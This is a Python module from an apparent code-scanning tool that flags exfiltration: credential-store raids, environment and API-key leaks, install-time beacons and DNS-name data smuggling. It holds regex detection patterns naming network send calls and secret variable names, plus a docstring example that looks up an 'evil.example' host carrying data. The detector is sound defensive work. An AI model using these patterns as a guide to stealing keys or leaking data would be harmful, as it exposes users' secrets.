"""What leaves the machine that nobody meant to give away: credentials, the environment, who and where one is."""

from __future__ import annotations

import ast
import re
from collections.abc import Iterator

from aisecops.codebase.dataflow.program import Call
from aisecops.codebase.payloads.payload import Payload
from aisecops.codebase.payloads.slices import Slices, fits
from aisecops.codebase.payloads.traits import DROPS, names_host, reads_credentials, reads_store, takes_environment, texts
from aisecops.codebase.syntax.walking import walk

SENDS = (
    r"(requests|httpx)\.(get|post|put|patch|request|head)|(requests\.(Session|session)|httpx\.(Async)?Client|aiohttp\.ClientSession)\(\)\.(get|post|put|patch|request)"
    r"|urllib\.request\.(urlopen|Request)|urllib\.urlopen|urllib2\.(urlopen|Request)|http\.client\.HTTPS?Connection\(\)\.request|urllib3\.PoolManager\(\)\.request"
    r"|socket\.(socket\(\)|create_connection\(\))\.(send|sendall|sendto)|smtplib\.SMTP(_SSL)?\(\)\.(sendmail|send_message)|ftplib\.FTP(_TLS)?\(\)\.(storbinary|storlines)"
    r"|websocket\.create_connection\(\)\.send|discord_webhook\.DiscordWebhook|telegram\.Bot\(\)\.send_(message|document)|telebot\.TeleBot\(\)\.send_(message|document)"
)
_OPENS = r"builtins\.open|io\.open|shutil\.(copy\w*|move)|sqlite3\.connect|.*\.(read_text|read_bytes|open)|zipfile\.ZipFile\(\)\.write"
LOOKS_UP = r"socket\.(gethostbyname|getaddrinfo|gethostbyname_ex)|dns\.resolver\.(resolve|query|Resolver\(\)\.resolve)"
_KEYS = (
    r"(AWS_(SECRET_ACCESS_KEY|SESSION_TOKEN)|GITHUB_TOKEN|GH_TOKEN|HF_TOKEN|HUGGING_?FACE\w*TOKEN|OPENAI_API_KEY|ANTHROPIC_API_KEY|WANDB_API_KEY|KAGGLE_KEY|NPM_TOKEN"
    r"|PYPI_TOKEN|DATABASE_URL)"
)
_BODIES = frozenset(("json", "data", "files", "params", "content", "body"))


def sends(slices: Slices) -> Iterator[Payload]:
    """Yield the calls that give away what nobody meant to give."""
    yield from _raids(slices)
    for call in slices.calls:
        if fits(LOOKS_UP, call.path):
            yield from _looked_up(slices, call)
        elif fits(SENDS, call.path):
            yield from _sent(slices, call)


def _raids(slices: Slices) -> Iterator[Payload]:
    """A function that opens the store of a browser, wallet or key, and sends something."""
    senders = {call.span.scope: call for call in slices.calls if fits(SENDS, call.path)}
    for call in slices.calls:
        if call.span.scope in senders and fits(_OPENS, call.path) and isinstance(call.node, ast.Call):
            owner = [call.node.func.value] if isinstance(call.node.func, ast.Attribute) else []
            parts = list(slices.parts(*call.node.args, *owner, scope=call.span.scope))
            if found := reads_store(parts) or (_looks_around(slices, call.span.scope) and reads_store(walk(slices.body(call.span.scope)))):
                sender = senders[call.span.scope]
                yield Payload(
                    "sent-credentials", f"{sender.path.replace('()', '')} follows where a store of secrets ({found}) is opened", sender.span
                )


def _looks_around(slices: Slices, scope: str) -> bool:
    """Whether the function goes through folders: what it opens is what it was looking for."""
    return bool(scope) and any(
        call.span.scope == scope and re.search(r"(^|\.)(walk|rglob|glob|iglob|scandir|listdir|iterdir)$", call.path) for call in slices.calls
    )


def _sent(slices: Slices, call: Call) -> Iterator[Payload]:
    node = call.node
    assert isinstance(node, ast.Call)
    what = call.path.replace("()", "")
    scope = call.span.scope
    given = [
        *node.args,
        *(keyword.value for keyword in node.keywords if keyword.arg not in ("headers", "auth", "cert", "verify", "timeout", "proxies", "context")),
    ]
    parts = list(slices.parts(*given, scope=scope))
    alone = scope in slices.by_itself and (slices.starts or slices.installs)
    host = names_host(slices, parts)
    dropped = any(re.search(DROPS, text) for text in texts(parts))
    if found := reads_credentials(parts):
        if _reads_a_file(parts):
            yield Payload("sent-credentials", f"{what} sends a file of credentials ({found}) away", call.span)
    elif dropped and (found := _raided(slices)):
        yield Payload("sent-credentials", f"{what} sends to a drop, where a store of secrets ({found}) is opened", call.span)
    elif takes_environment(parts):
        yield Payload("sent-environment", f"{what} sends all variables of the environment away, keys included", call.span)
    elif (alone and host) or (dropped and len(host) > 1) or (slices.starts and len(host) > 2):
        yield Payload("sent-identity", f"{what} tells somebody else who installs or imports this, and where", call.span)
    elif (alone or dropped) and any(re.fullmatch(_KEYS, text) for text in texts(slices.parts(*_bodies(node), scope=scope))):
        yield Payload("sent-keys", f"{what} sends keys from the environment away", call.span)
    elif slices.installs and alone and (slices.name == "setup.py" or scope) and _ignores_the_answer(slices, call):
        yield Payload("calls-home", f"{what} tells somebody that the package is being installed", call.span, sure=False)


def _raided(slices: Slices) -> str:
    """The store of a browser, wallet or key that the module names, if it opens anything."""
    if not any(fits(_OPENS, call.path) for call in slices.calls):
        return ""
    return reads_store(walk(slices.module.tree))


def _bodies(node: ast.Call) -> list[ast.expr]:
    return [*node.args[1:], *(keyword.value for keyword in node.keywords if keyword.arg in _BODIES)]


def _reads_a_file(parts: list[ast.AST]) -> bool:
    """Whether a file is opened on the way: a path alone is no secret."""
    for part in parts:
        if isinstance(part, ast.Call):
            name = part.func.attr if isinstance(part.func, ast.Attribute) else part.func.id if isinstance(part.func, ast.Name) else ""
            if name in (
                "open",
                "read",
                "read_text",
                "read_bytes",
                "connect",
                "copy",
                "copyfile",
                "copytree",
                "make_archive",
                "ZipFile",
                "check_output",
                "popen",
                "readlines",
            ):
                return True
    return False


def _ignores_the_answer(slices: Slices, call: Call) -> bool:
    body = slices.body(call.span.scope)
    return any(isinstance(statement, ast.Expr) and call.node in walk(statement) for statement in walk(body) if isinstance(statement, ast.Expr))


def _looked_up(slices: Slices, call: Call) -> Iterator[Payload]:
    """Names of hosts that carry data: ``gethostbyname(f"{data}.evil.example")``."""
    node = call.node
    assert isinstance(node, ast.Call)
    first = node.args[0] if node.args else None
    if not isinstance(first, (ast.JoinedStr, ast.BinOp, ast.Name, ast.Call)):
        return
    parts = list(slices.parts(first, scope=call.span.scope))
    made = any(
        isinstance(part, (ast.JoinedStr, ast.BinOp))
        or (isinstance(part, ast.Call) and isinstance(part.func, ast.Attribute) and part.func.attr == "format")
        for part in parts
    )
    if made and (names_host(slices, parts) or takes_environment(parts) or reads_credentials(parts)) and any("." in text for text in texts(parts)):
        yield Payload("sent-in-a-name", f"{call.path} carries what is known of this machine in the name that it looks up", call.span)
